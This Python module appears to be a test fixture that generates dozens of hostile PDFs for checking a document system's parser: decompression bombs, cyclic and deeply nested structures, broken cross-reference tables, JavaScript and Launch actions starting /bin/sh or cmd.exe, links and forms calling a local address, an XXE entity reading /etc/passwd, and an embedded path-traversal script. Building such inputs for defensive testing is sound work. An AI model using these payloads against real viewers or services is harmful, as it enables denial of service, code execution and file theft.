"""PDFs made to harm: trees without end, bombs, recursion, broken structure, things that want to run or to call out."""

import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

import PIL.Image
from pypdf import PdfWriter

from dms.demo.hostile import good_pdf
from tests.hostile.parts import CATALOG, MIB, ONE_PAGE, deflated, one_page, page, pdf, stream

CALLS = b"http://127.0.0.1:9/hostile"
FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "


def cyclic_tree() -> bytes:
    tree = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return pdf([CATALOG, tree, b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"])


def tree_of_itself() -> bytes:
    return pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


def deep_tree() -> bytes:
    middle = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, 5000)]
    return pdf([CATALOG, *middle, b"<< /Type /Page /MediaBox [0 0 9 9] >>"])


def noise_on_every_page() -> bytes:
    """Three hundred pages that show one picture of noise: seconds of recognising each, and not a word."""
    out = BytesIO()
    PIL.Image.effect_noise((2480, 3508), 100).save(out, "JPEG", quality=30)
    size = b"/Type /XObject /Subtype /Image /Width 2480 /Height 3508 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    image = stream(out.getvalue(), size + b"/Filter /DCTDecode")
    tree = b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % x for x in range(6, 306)) + b"] /Count 300 >>"
    pages = [page(b"/XObject << /X 5 0 R >>")] * 300
    return pdf([CATALOG, tree, b"null", stream(b"q 595 0 0 842 0 0 cm /X Do Q"), image, *pages])


def count_that_lies() -> bytes:
    return pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", page(), stream(b"")])


def same_page_a_million_times() -> bytes:
    kids = b"3 0 R " * 1_000_000
    return pdf([CATALOG, b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000000 >>", page(), stream(b"")])


def bomb_of_content() -> bytes:
    packed = zlib.compress(deflated(600 * MIB, b" "), 9)
    return pdf([CATALOG, ONE_PAGE, page(), stream(packed, b"/Filter [/FlateDecode /FlateDecode]")])


def bomb_of_image() -> bytes:
    extra = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    image = stream(deflated(64 * MIB), extra + b"/Filter /FlateDecode")
    return one_page(b"q 595 0 0 842 0 0 cm /X Do Q", b"/XObject << /X 5 0 R >>", image)


def bomb_of_jbig2() -> bytes:
    """A segment that promises a page of four milliard by four milliard dots."""
    segment = b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff\xff\xff\xf0" * 2 + b"\0" * 8 + b"\0\0\0"
    extra = b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
    return one_page(b"/X Do", b"/XObject << /X 5 0 R >>", stream(segment, extra + b"/Filter /JBIG2Decode"))


def bomb_of_run_lengths() -> bytes:
    data = b"\x81 " * (2 * MIB) + b"\x80"
    filters = b"/Filter [/FlateDecode /RunLengthDecode]"
    return pdf([CATALOG, ONE_PAGE, page(), stream(zlib.compress(data, 9), filters)])


def thousand_filters() -> bytes:
    filters = b"/Filter [" + b"/ASCIIHexDecode " * 1000 + b"]"
    return pdf([CATALOG, ONE_PAGE, page(), stream(b"30" * 1000, filters)])


def forms_in_forms() -> bytes:
    """Each form draws the next ten times: 10^12 drawings."""
    objects = []
    for number in range(5, 17):
        last = number == 16
        body = b"0 0 9 9 re f" if last else b"/X Do " * 10
        inner = b"" if last else b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1)
        objects.append(stream(body, FORM + inner))
    return one_page(b"/X Do", b"/XObject << /X 5 0 R >>", *objects)


def form_of_itself() -> bytes:
    form = stream(b"/X Do", FORM + b"/Resources << /XObject << /X 5 0 R >> >>")
    return one_page(b"/X Do", b"/XObject << /X 5 0 R >>", form)


def pattern_of_itself() -> bytes:
    extra = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep .001 /YStep .001 "
    inner = b"/Resources << /Pattern << /P 5 0 R >> >>"
    tile = stream(b"/Pattern cs /P scn 0 0 1 1 re f", extra + inner)
    return one_page(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern << /P 5 0 R >>", tile)


def font_of_itself() -> bytes:
    font = b"""<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97
      /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >>
      >>"""
    glyph = stream(b"9 0 d0 BT /F 9 Tf (aaaaaaaaaa) Tj ET")
    return one_page(b"BT /F 9 Tf (aaaaaaaaaa) Tj ET", b"/Font << /F 5 0 R >>", font, glyph)


def colours_of_themselves() -> bytes:
    return one_page(b"/C cs 0 sc 0 0 9 9 re f", b"/ColorSpace << /C 5 0 R >>", b"[/Indexed 5 0 R 255 (abc)]")


def mask_of_itself() -> bytes:
    extra = (
        b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 5 0 R"
    )
    return one_page(b"/X Do", b"/XObject << /X 5 0 R >>", stream(b"\0" * 64, extra))


def loop_of_references() -> bytes:
    return pdf([CATALOG, ONE_PAGE, page(), b"5 0 R", b"4 0 R"])


def length_in_a_loop() -> bytes:
    looped = b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"
    return pdf([CATALOG, ONE_PAGE, page(), looped])


def length_that_lies() -> bytes:
    return pdf([CATALOG, ONE_PAGE, page(), b"<< /Length 999999999999 >>\nstream\nq Q\nendstream"])


def deep_array() -> bytes:
    return pdf([CATALOG, ONE_PAGE, page(), b"[" * 200_000 + b"]" * 200_000])


def deep_dictionary() -> bytes:
    return pdf([CATALOG, ONE_PAGE, page(), b"<</A" * 100_000 + b" 1 " + b">>" * 100_000])


def saved_without_end() -> bytes:
    return one_page(b"q " * 2_000_000)


def no_page_size() -> bytes:
    flat = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Contents 4 0 R >>"
    return pdf([CATALOG, ONE_PAGE, flat, stream(b"")])


def endless_page() -> bytes:
    wide = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 1e30] /UserUnit 1e30 /Contents 4 0 R >>"
    return pdf([CATALOG, ONE_PAGE, wide, stream(b"0 0 9 9 re f")])


def previous_is_itself() -> bytes:
    data = one_page(b"")
    table = data[data.rindex(b"startxref") + 10 :].split()[0]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + table)


def table_of_streams_that_loops() -> bytes:
    """A cross-reference stream whose previous one is itself, and objects in a stream that holds itself."""
    data = bytearray(b"%PDF-1.7\n")
    place = len(data)
    rows = b"\1\0\0\0" + b"\2\0\1\0" * 3 + b"\1" + place.to_bytes(2, "big") + b"\0"
    extra = b"/Type /XRef /W [1 2 1] /Size 5 /Root 1 0 R /Prev %d" % place
    data += b"4 0 obj\n" + stream(rows, extra) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % place
    return bytes(data)


def trailer_is_no_dictionary() -> bytes:
    return one_page(b"").replace(b"/Root 1 0 R", b"/Root <0123456789> /Info <<")


def outlines_in_a_ring() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>"
    ring = b"<< /Title (x) /First 5 0 R /Last 5 0 R /Next 5 0 R /Prev 5 0 R /Parent 5 0 R /Count 99 >>"
    return pdf([catalog, ONE_PAGE, page(), stream(b""), ring])


def function_of_a_milliard() -> bytes:
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Function 6 0 R /Domain [0 1e9 0 1e9] >>"
    extra = b"/FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Size [2147483647 2147483647] /BitsPerSample 32"
    return one_page(b"/S sh", b"/Shading << /S 5 0 R >>", shading, stream(b"\0", extra))


def calculator_without_end() -> bytes:
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >>"
    program = b"{ pop " + b"dup mul " * 60_000 + b"}"
    extra = b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]"
    return one_page(b"/S sh", b"/Shading << /S 5 0 R >>", shading, stream(program, extra))


def million_objects() -> bytes:
    return pdf([CATALOG, ONE_PAGE, page(), stream(b""), *([b"null"] * 400_000)])


def wants_to_run() -> bytes:
    """Scripts and programs to start when it opens, prints or closes."""
    act = b"<< /S /JavaScript /JS (app.launchURL\\('" + CALLS + b"'\\); while\\(true\\){}) /Next 6 0 R >>"
    launch = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R /WP 6 0 R >> >>"
    return pdf([catalog, ONE_PAGE, page(b"", b"/AA << /O 5 0 R >>"), stream(b""), act, launch])


def calls_out() -> bytes:
    """Streams, forms and links that lie elsewhere."""
    away = b"<< /S /SubmitForm /F << /FS /URL /F (" + CALLS + b") >> >>"
    outside = b"<< /Length 0 /F << /FS /URL /F (" + CALLS + b") >> >>\nstream\n\nendstream"
    form = stream(b"", FORM + b"/Ref << /F << /FS /URL /F (" + CALLS + b") >> /Page 0 >>")
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /URI << /Base (" + CALLS + b") >> >>"
    resources = b"/XObject << /X 6 0 R >>"
    return pdf([catalog, ONE_PAGE, page(resources), outside, away, form])


def form_with_entities() -> bytes:
    """An XFA form whose XML reads a file of the machine and asks an address."""
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "'
    xml += CALLS + b'">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&a;&b;</xdp:xdp>'
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R /Fields [] >> /Metadata 5 0 R >>"
    return pdf([catalog, ONE_PAGE, page(), stream(b""), stream(xml, b"/Type /Metadata /Subtype /XML")])


def carries_a_program() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(../../x.sh) 5 0 R] >> >> >>"
    file = b"<< /Type /Filespec /F (../../x.sh) /EF << /F 6 0 R >> >>"
    return pdf([catalog, ONE_PAGE, page(), stream(b""), file, stream(b"#!/bin/sh\ntouch /tmp/x\n")])


def unknown_cipher() -> bytes:
    objects = [CATALOG, ONE_PAGE, page(), stream(b""), b"<< /Filter /Standard /V 99 /R 99 /O (x) /U (x) /P -1 >>"]
    return pdf(objects, b"/Encrypt 5 0 R /ID [(a) (b)]")


def encrypted() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(good_pdf()))
    writer.encrypt(user_password="geheim", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def header_far_away() -> bytes:
    return b"\n" * MIB + good_pdf()


def only_a_header() -> bytes:
    return b"%PDF-1.7\n"


def nothing_after_the_header() -> bytes:
    return b"%PDF-1.7\n" + b"\0" * MIB


def half_of_one() -> bytes:
    data = good_pdf()
    return data[: len(data) // 2]


def every_byte_turned() -> bytes:
    data = bytearray(good_pdf())
    for place in range(200, len(data), 37):
        data[place] ^= 0x55
    return bytes(data)


def wide_numbers() -> bytes:
    return one_page(b"1" * 500_000 + b" 0 0 1e400 -1e400 nan cm 0 0 9 9 re f")


def _without_name(*makers: Callable[[], bytes]) -> Mapping[str, Callable[[], bytes]]:
    return {f"{make.__name__.replace('_', ' ')}.pdf": make for make in makers}


PDFS = _without_name(
    cyclic_tree, tree_of_itself, deep_tree, noise_on_every_page, count_that_lies, same_page_a_million_times,
    bomb_of_content, bomb_of_image,
    bomb_of_jbig2, bomb_of_run_lengths, thousand_filters, forms_in_forms, form_of_itself, pattern_of_itself,
    font_of_itself, colours_of_themselves, mask_of_itself, loop_of_references, length_in_a_loop, length_that_lies,
    deep_array, deep_dictionary, saved_without_end, no_page_size, endless_page, previous_is_itself,
    table_of_streams_that_loops, trailer_is_no_dictionary, outlines_in_a_ring, function_of_a_milliard,
    calculator_without_end, million_objects, wants_to_run, calls_out, form_with_entities, carries_a_program,
    unknown_cipher, encrypted, header_far_away, only_a_header, nothing_after_the_header, half_of_one,
    every_byte_turned, wide_numbers,
)  # fmt: skip
"""Each by its file name."""
